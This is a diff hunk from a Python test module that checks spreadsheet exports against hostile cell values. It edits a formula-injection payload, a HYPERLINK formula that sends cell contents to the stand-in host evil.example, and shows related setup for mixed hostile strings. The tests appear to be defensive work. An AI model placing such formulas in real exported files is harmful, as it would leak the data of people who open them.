@@ -14,7 +14,7 @@ from gongzhi.party.tests.test_registration import party  # noqa: F401 (fixture)
 from gongzhi.testing.audited import download, refused_without_row
 from gongzhi.testing.hostile_cells import HOSTILE, MIXED, assert_written_safely
 
-FORMULA = '=HYPERLINK("http://evil.example/x?d="&R2&S2,"点击查看")'
+FORMULA = '=HYPERLINK("http://evil.example/?d="&R2,"点击查看")'
 # What a name typed elsewhere may hold; PostgreSQL cannot store a NUL, so there only the rest.
 STORED = MIXED if connection.vendor != "postgresql" else MIXED.replace("\x00", "")
 
